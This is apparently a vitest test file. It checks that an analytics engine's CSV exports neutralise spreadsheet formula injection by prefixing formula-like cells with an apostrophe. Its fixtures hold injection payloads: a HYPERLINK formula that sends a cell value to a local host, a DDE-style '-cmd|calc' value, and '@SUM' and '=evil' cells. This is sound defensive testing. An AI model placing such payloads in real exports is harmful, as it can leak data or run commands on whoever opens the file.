/**
 * Exports as an exit (RELIABILITY.md T12, issue 18 item 1): segments.csv and a SQL result's CSV
 * on real DuckDB-WASM, with customer keys and a persona name that are spreadsheet formulas.
 * Every such field must come out as ' + the text, quoted; numbers stay numbers.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { createEngine, refsFor, textFile } from '../helpers/engine';

const LINK = '=HYPERLINK("http://127.0.0.1:8001/?"&A2,"Open")';
const starts = /^[=+\-@\t\r]/;

function customers(): string {
	const q = (s: string): string => `"${s.replaceAll('"', '""')}"`;
	const lines = ['customer_id,spend,orders,balance'];
	for (let i = 1; i <= 60; i++) {
		const g = i % 3;
		const key = i % 4 === 0 ? `${LINK}-${i}` : i % 4 === 1 ? `@SUM(A${i})` : `+${i}-1`;
		lines.push([q(key), 10 + g * 100 + (i % 7), 1 + g * 5, -(i % 9)].join(','));
	}
	return lines.join('\n') + '\n';
}

const open = { includePersonal: true, salt: 's', minSegmentSize: 0 };

function rowsOf(bytes: Uint8Array): string[][] {
	return Papa.parse<string[]>(new TextDecoder().decode(bytes), { skipEmptyLines: true }).data;
}

describe('CSV exports neutralise formulas', () => {
	it('segments.csv: formula keys and a formula persona name become text', async () => {
		const engine = await createEngine();
		await engine.loadSource(textFile('formulas.csv', customers()));
		const { recipe } = await engine.suggestRecipe('formulas');
		const ref = refsFor(recipe);
		await engine.buildFeatures(recipe, ref);
		await engine.segment(ref, { k: 3, seed: 1 });
		const personas = new Map([
			[1, '=HYPERLINK("http://127.0.0.1:8001/?"&A2,"Click")'],
			[2, '-cmd|calc'],
			[3, 'Loyal']
		]);
		const file = await engine.exportSegments(ref, 'csv', personas, open);
		const rows = rowsOf(file.bytes);
		expect(rows[0]).toEqual(['customer_id', 'segment', 'persona']);
		expect(rows).toHaveLength(61);
		const cells = rows.slice(1).flat();
		// The only cells starting like a formula are the neutralised ones.
		expect(cells.filter((c) => starts.test(c))).toEqual([]);
		expect(rows.slice(1).some((r) => r[0] === `'${LINK}-4`)).toBe(true);
		expect(rows.slice(1).some((r) => r[2] === `'${personas.get(1)!}`)).toBe(true);
		expect(rows.slice(1).some((r) => r[2] === "'-cmd|calc")).toBe(true);
		expect(rows.slice(1).some((r) => r[2] === 'Loyal')).toBe(true);
		// Quoted on the wire, as the rule says.
		expect(new TextDecoder().decode(file.bytes)).toContain(`"'@SUM(A1)"`);
	});

	it('a SQL result: formula text neutralised, negative numbers kept as numbers', async () => {
		const engine = await createEngine();
		await engine.loadSource(textFile('formulas.csv', customers()));
		const file = await engine.exportQuery(
			`SELECT customer_id, balance, '=1+1' AS "=evil", '\t=2' AS tabbed FROM formulas ORDER BY spend, customer_id LIMIT 12`,
			'csv',
			open
		);
		const rows = rowsOf(file.bytes);
		expect(rows[0]).toEqual(['customer_id', 'balance', "'=evil", 'tabbed']);
		expect(
			rows
				.slice(1)
				.flat()
				.filter((c) => starts.test(c) && !/^-\d+$/.test(c))
		).toEqual([]);
		expect(rows.slice(1).map((r) => r[2])).toEqual(Array(12).fill("'=1+1"));
		expect(rows.slice(1).map((r) => r[3])).toEqual(Array(12).fill("'\t=2"));
		expect(rows.slice(1).some((r) => /^-\d+$/.test(r[1]!))).toBe(true);
	});
});
